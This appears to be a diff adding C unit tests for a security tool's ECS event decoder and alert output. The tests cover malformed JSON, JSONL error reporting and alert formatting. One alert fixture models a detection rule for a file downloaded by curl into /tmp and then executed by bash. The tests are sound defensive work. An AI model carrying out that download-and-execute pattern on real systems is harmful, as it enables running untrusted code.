+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"packet\"},\"network\":{\"direction\":\"sideways\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"packet\"},\"payload\":{\"base64\":\"!!\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"file\",\"action\":\"open\"},\"file\":{\"name\":\"x\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"exit_code\":2147483648}}",
+	};
+	struct fx *f = *state;
+	size_t i;
+
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		if (!decode(f, bad[i], &f->ev))
+			fail_msg("accepted: %s", bad[i]);
+	assert_int_equal(f->ctx.stats.errors, sizeof(bad) / sizeof(bad[0]));
+	/* null is absent, unknown fields are ignored, dotted keys work */
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event.category\":\"process\",\"event\":{\"action\":\"exec\"},"
+		  "\"process\":{\"pid\":null,\"parent.pid\":3,\"x\":{\"y\":[1]}},\"z\":1}", &f->ev);
+	assert_int_equal(f->ev.present, KS_P_PARENT);
+	assert_int_equal(f->ev.ppid, 3);
+}
+
+struct collect {
+	unsigned long lines[16];
+	int n;
+	int stop_at;
+};
+
+static int collect_cb(void *arg, struct ks_event *ev, json_t *obj,
+		      unsigned long line)
+{
+	struct collect *c = arg;
+
+	assert_int_equal(ev->seq, line);
+	assert_true(json_is_object(obj));
+	c->lines[c->n++] = line;
+	return c->n == c->stop_at ? 42 : 0;
+}
+
+static void test_jsonl_errors(void **state)
+{
+	struct fx *f = *state;
+	const char *good = "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"}}";
+	char *in, *errs = NULL;
+	size_t errlen = 0;
+	unsigned long skipped = 0;
+	struct collect c = { .stop_at = -1 };
+	FILE *fin, *ferr;
+
+	assert_true(asprintf(&in, "%s\n"
+		"{\"@timestamp\":\n"
+		"\n"
+		"[1,2]\n"
+		"%s\r\n"
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"file\",\"action\":\"exec\"}}\n"
+		"{\"a\":1,\"a\":2}\n"
+		"   \n"
+		"%s", good, good, good) > 0);
+	fin = fmemopen(in, strlen(in), "r");
+	ferr = open_memstream(&errs, &errlen);
+	assert_int_equal(ks_ecs_read_jsonl(fin, "ev.jsonl", collect_cb, &c,
+					   &f->ctx, &skipped, ferr), 0);
+	fclose(ferr);
+	fclose(fin);
+	assert_int_equal(skipped, 4);
+	assert_int_equal(c.n, 3);
+	assert_int_equal(c.lines[0], 1);
+	assert_int_equal(c.lines[1], 5);
+	assert_int_equal(c.lines[2], 9);
+	assert_string_equal(errs,
+		"ev.jsonl:2: error: invalid JSON at column 14: unexpected token near end of file\n"
+		"ev.jsonl:4: error: expected a JSON object\n"
+		"ev.jsonl:6: error: event.action: \"exec\" is not a file action\n"
+		"ev.jsonl:7: error: invalid JSON at column 10: duplicate object key near '\"a\"'\n");
+	free(errs);
+
+	/* a non-zero callback return stops reading and is returned */
+	c.n = 0;
+	c.stop_at = 2;
+	fin = fmemopen(in, strlen(in), "r");
+	assert_int_equal(ks_ecs_read_jsonl(fin, "ev.jsonl", collect_cb, &c,
+					   &f->ctx, NULL, NULL), 42);
+	fclose(fin);
+	assert_int_equal(c.n, 2);
+	free(in);
+}
+
+static void test_jsonl_long_line(void **state)
+{
+	struct fx *f = *state;
+	size_t pad = 1 << 20;
+	char *in = malloc(pad + 512);
+	struct collect c = { .stop_at = -1 };
+	unsigned long skipped = 0;
+	FILE *fin;
+	int n;
+
+	assert_non_null(in);
+	n = sprintf(in, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"junk\":\"");
+	memset(in + n, 'j', pad);
+	strcpy(in + n + pad, "\"}\n");
+	fin = fmemopen(in, strlen(in), "r");
+	assert_int_equal(ks_ecs_read_jsonl(fin, "big", collect_cb, &c, &f->ctx,
+					   &skipped, stderr), 0);
+	fclose(fin);
+	free(in);
+	assert_int_equal(c.n, 1);
+	assert_int_equal(skipped, 0);
+}
+
+#define ALERT_E1 \
+	"{\"@timestamp\":\"2026-01-02T03:04:05.000000001Z\",\"event\":{\"action\":\"creation\",\"category\":\"file\"}," \
+	"\"file\":{\"name\":\"x\",\"path\":\"/tmp/x\"},\"group\":{\"id\":0},\"host\":{\"name\":\"h1\"}," \
+	"\"process\":{\"entity_id\":\"4242-1767323045\",\"executable\":\"/usr/bin/curl\",\"name\":\"curl\",\"pid\":4242},\"user\":{\"id\":0}}"
+#define ALERT_E2 \
+	"{\"@timestamp\":\"2026-01-02T03:04:06.500000000Z\",\"event\":{\"action\":\"exec\",\"category\":\"process\"}," \
+	"\"group\":{\"id\":0},\"host\":{\"name\":\"h1\"}," \
+	"\"process\":{\"args\":[\"/tmp/x\"],\"args_count\":1,\"command_line\":\"/tmp/x\",\"entity_id\":\"4243-1767323046\"," \
+	"\"executable\":\"/tmp/x\",\"name\":\"x\",\"parent\":{\"entity_id\":\"4000-1\",\"executable\":\"/bin/bash\",\"name\":\"bash\",\"pid\":4000}," \
+	"\"pid\":4243},\"user\":{\"id\":0}}"
+
+static void test_alert_shape(void **state)
+{
+	struct fx *f = *state;
+	static const char *const tags[] = { "attack.t1105", "attack.execution" };
+	const struct ks_alert_meta meta = {
+		.id = "tmp_payload_executed",
+		.name = "Downloaded file executed from /tmp",
+		.severity = "high", .action = "block",
+		.tags = tags, .n_tags = 2,
+	};
+	const char *names[] = { "file.path" }, *values[] = { "/tmp/x" };
+	const struct ks_event *evs[] = { &f->ev, &f->ev2 };
+	char *s, *line = NULL;
+	size_t linelen = 0;
+	json_t *a;
+	FILE *out;
+
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05.000000001Z\",\"event\":{\"category\":\"file\",\"action\":\"creation\"},"
+		  "\"file\":{\"path\":\"/tmp/x\"},\"process\":{\"pid\":4242,\"entity_id\":\"4242-1767323045\",\"executable\":\"/usr/bin/curl\"},"
+		  "\"user\":{\"id\":0},\"host\":{\"name\":\"h1\"}}", &f->ev);
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:06.5Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		  "\"process\":{\"pid\":4243,\"entity_id\":\"4243-1767323046\",\"executable\":\"/tmp/x\",\"args\":[\"/tmp/x\"],"
+		  "\"parent\":{\"pid\":4000,\"entity_id\":\"4000-1\",\"executable\":\"/bin/bash\"}},"
+		  "\"user\":{\"id\":0},\"group\":{\"id\":0},\"host\":{\"name\":\"h1\"}}", &f->ev2);
+	f->ev2.verdict.flags = KS_V_FORWARD | KS_V_DENIED;
+
+	a = ks_ecs_alert(&f->ctx, &meta, evs, 2, names, values, 1);
+	assert_non_null(a);
+	out = open_memstream(&line, &linelen);
+	assert_int_equal(ks_ecs_dump_line(a, out), 0);
+	fclose(out);
+	json_decref(a);
+	assert_string_equal(line,
+		"{\"@timestamp\":\"2026-01-02T03:04:06.500000000Z\","
+		"\"event\":{\"action\":\"block\",\"kind\":\"alert\",\"outcome\":\"blocked\"},"
+		"\"host\":{\"name\":\"h1\"},"
+		"\"kestrel\":{\"events\":[" ALERT_E1 "," ALERT_E2 "],\"join\":{\"file.path\":\"/tmp/x\"}},"
+		"\"rule\":{\"id\":\"tmp_payload_executed\",\"name\":\"Downloaded file executed from /tmp\","
+		"\"severity\":\"high\",\"tags\":[\"attack.t1105\",\"attack.execution\"]}}\n");
+	free(line);
+
+	/* outcome follows the completing event's verdict */
+	f->ev2.verdict.flags = KS_V_KILLED | KS_V_DENIED;
+	a = ks_ecs_alert(&f->ctx, &meta, evs, 2, NULL, NULL, 0);
+	s = dump(a);
+	assert_non_null(strstr(s, "\"outcome\":\"killed\""));
+	assert_non_null(strstr(s, "\"join\":{}"));
+	free(s);
+	json_decref(a);
+	f->ev2.verdict.flags = 0;
+	a = ks_ecs_alert(&f->ctx, &meta, evs, 1, NULL, NULL, 0);
+	s = dump(a);
+	assert_non_null(strstr(s, "\"outcome\":\"success\""));
+	assert_non_null(strstr(s, "\"@timestamp\":\"2026-01-02T03:04:05.000000001Z\""));
+	free(s);
+	json_decref(a);
+	assert_null(ks_ecs_alert(&f->ctx, &meta, evs, 0, NULL, NULL, 0));
+}
+
+static void test_host(void **state)
+{
+	struct ks_ecs_ctx ctx;
+
+	(void)state;
+	ks_ecs_init(&ctx, "given");
+	assert_string_equal(ks_ecs_host(&ctx), "given");
+	ks_ecs_free(&ctx);
+	ks_ecs_init(&ctx, NULL);
+	assert_true(strlen(ks_ecs_host(&ctx)) > 0);
+	ks_ecs_free(&ctx);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test_setup_teardown(test_spec_example, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_name_not_basename, setup, teardown),
+		cmocka_unit_test(test_timestamps),
+		cmocka_unit_test(test_format_time),
+		cmocka_unit_test_setup_teardown(test_roundtrip, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_entity_ids, setup, teardown),
+		cmocka_unit_test(test_utf8),
+		cmocka_unit_test_setup_teardown(test_json_from_bad_bytes, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_truncation, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_args_cut_at_separator, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_fields, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_rejects, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_jsonl_errors, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_jsonl_long_line, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_alert_shape, setup, teardown),
+		cmocka_unit_test(test_host),
+	};
+
+	return cmocka_run_group_tests_name("ecs", tests, NULL, NULL);
+}
